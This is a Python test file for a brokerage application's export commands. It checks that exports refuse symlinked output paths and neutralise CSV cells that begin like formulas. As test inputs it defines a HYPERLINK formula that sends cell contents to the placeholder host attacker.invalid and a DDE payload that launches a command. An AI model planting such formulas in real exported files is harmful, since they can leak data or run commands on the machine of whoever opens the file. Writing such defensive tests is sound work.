"""Exports write only their own files (`projections.export_files.OutputFolder`), and their CSV never runs in
a spreadsheet: a link in place of the output folder or of one of its files is refused with exit 2 and
nothing outside the folder changes; a text cell that begins like a formula gets a leading `'`, a number
keeps its sign. `audit reconcile` refuses an unknown partner as `export` does."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from application.commands import SendoutReport
from application.credentials import VAR_ENV
from application.ledger import Ledger
from application.store.database import DATABASE_URL_ENV
from application.use_cases import UseCases
from bench.history import Driver
from projections.export_files import OutputFolder, UnsafeOutput
from tests.projections.scenario import replay_what_exports_read
from tests.projections.support import run_cli as run

START, END = "2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z"  # the clock starts on 2026-03-10
HYPERLINK = '=HYPERLINK("https://attacker.invalid/?"&A2,"Click")'
CALC = "=2+5+cmd|'/Ccalc'!A0"


def export(out: Path, file_format: str = "csv") -> int:
    argv = ("export", "--partner", "demo", "--from", START, "--to", END, "--format", file_format)
    return run(*argv, "--out", str(out))


@pytest.fixture
def hostile_books(
    fresh_database: str,
    store_ledger: Ledger,
    store_use_cases: UseCases,
    clock: Any,
    addresses: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> str:
    """A buy whose payment reference and chain report's txId are spreadsheet formulas, and a sell (its
    balance_crypto is negative); read models and postings replayed, the CLI pointed at the database."""
    drive = Driver(store_use_cases, clock, addresses)
    drive.customer("demo", "alice")
    buy = drive.buy("demo", "alice", "100", payment_reference=HYPERLINK)
    store_use_cases.buys.commit("demo", buy.code)
    store_use_cases.settlement.report_sendout("demo", SendoutReport(buy.code, CALC, 1))
    drive.sell("demo", "alice", "0.001")
    replay_what_exports_read(store_ledger, fresh_database)
    monkeypatch.setenv(DATABASE_URL_ENV, fresh_database)
    monkeypatch.setenv(VAR_ENV, str(tmp_path / "var"))
    return fresh_database


@pytest.mark.parametrize(
    ("file_format", "name"),
    [("csv", "transactions.csv"), ("parquet", "daily_volumes.parquet"), ("csv", "manifest.json")],
)
def test_a_link_in_place_of_an_export_file_is_refused_and_its_target_is_unchanged(
    hostile_books: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], file_format: str, name: str
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("kept")
    out = tmp_path / "exp1"
    out.mkdir()
    (out / name).symlink_to(victim)

    assert export(out, file_format) == 2

    refusal = capsys.readouterr().err
    assert f"{out / name} is a symbolic link: refused" in refusal
    assert "Traceback" not in refusal
    assert victim.read_text() == "kept"
    assert [path.name for path in out.iterdir()] == [name]  # nothing written, no temporary file left
    assert (out / name).is_symlink()


def test_an_output_folder_that_is_a_link_is_refused_and_nothing_is_written_where_it_points(
    hostile_books: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "exp1"
    out.symlink_to(elsewhere, target_is_directory=True)

    assert export(out) == 2

    assert f"{out} is a symbolic link: refused" in capsys.readouterr().err
    assert list(elsewhere.iterdir()) == []


def test_a_link_planted_while_a_file_is_written_is_refused_and_the_draft_removed(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("kept")
    out = tmp_path / "exp1"
    out.mkdir()

    with (
        OutputFolder(out) as folder,
        pytest.raises(UnsafeOutput),
        folder.replacing("transactions.csv") as draft,
    ):
        draft.stream.write(b"partner\n")
        (out / "transactions.csv").symlink_to(victim)

    assert victim.read_text() == "kept"
    assert [path.name for path in out.iterdir()] == ["transactions.csv"]


def test_a_file_of_the_export_is_replaced_by_a_new_one_so_a_hard_link_to_it_is_unchanged(
    hostile_books: str, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere.csv"
    elsewhere.write_text("kept")
    out = tmp_path / "exp1"
    out.mkdir()
    (out / "transactions.csv").hardlink_to(elsewhere)

    assert export(out) == 0

    assert elsewhere.read_text() == "kept"
    assert (out / "transactions.csv").read_text().startswith("partner,")


def test_csv_text_that_a_spreadsheet_would_run_gets_a_leading_quote_and_a_negative_number_does_not(
    hostile_books: str, tmp_path: Path
) -> None:
    out = tmp_path / "csv"
    assert export(out) == 0

    with (out / "transactions.csv").open(newline="") as stream:
        rows = {row["type"]: row for row in csv.DictReader(stream)}
    assert rows["BROKERBUY"]["payment_reference"] == "'" + HYPERLINK
    assert rows["BROKERBUY"]["blockchain_tx_id"] == "'" + CALC
    assert rows["BROKERSELL"]["balance_crypto"] == "-0.00100000"
    assert rows["BROKERSELL"]["created"].startswith("2026-03-10T")
    manifest = json.loads((out / "manifest.json").read_text())
    for entry in manifest["files"]:
        assert hashlib.sha256((out / entry["file"]).read_bytes()).hexdigest() == entry["sha256"]
    assert export(tmp_path / "parquet", "parquet") == 0  # Parquet, typed, keeps the text as recorded
    rows = pq.read_table(tmp_path / "parquet" / "transactions.parquet").to_pylist()
    assert [row["payment_reference"] for row in rows if row["type"] == "BROKERBUY"] == [HYPERLINK]


def test_audit_export_refuses_a_link_in_place_of_its_file_and_leaves_the_target_unchanged(
    hostile_books: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("kept")
    out = tmp_path / "audits" / "history.jsonl"
    out.parent.mkdir()
    out.symlink_to(victim)

    assert run("audit", "export", "--from", START, "--to", END, "--out", str(out)) == 2

    assert f"audit export: {out} is a symbolic link: refused" in capsys.readouterr().err
    assert victim.read_text() == "kept"
    assert [path.name for path in out.parent.iterdir()] == ["history.jsonl"]


def test_audit_export_refuses_a_folder_that_is_a_link(
    hostile_books: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "audits").symlink_to(elsewhere, target_is_directory=True)
    out = tmp_path / "audits" / "history.jsonl"

    assert run("audit", "export", "--from", START, "--to", END, "--out", str(out)) == 2

    assert f"audit export: {out.parent} is a symbolic link: refused" in capsys.readouterr().err
    assert list(elsewhere.iterdir()) == []


def test_audit_reconcile_refuses_an_unknown_partner_with_exit_2(
    hostile_books: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run("audit", "reconcile", "--from", START, "--to", END, "--partner", "dmeo") == 2

    captured = capsys.readouterr()
    assert "audit reconcile: unknown partner 'dmeo'; configured: demo, other" in captured.err
    assert "clean" not in captured.out
    assert run("audit", "reconcile", "--from", START, "--to", END, "--partner", "demo") in (0, 1)
    assert capsys.readouterr().out.startswith("partner demo:")
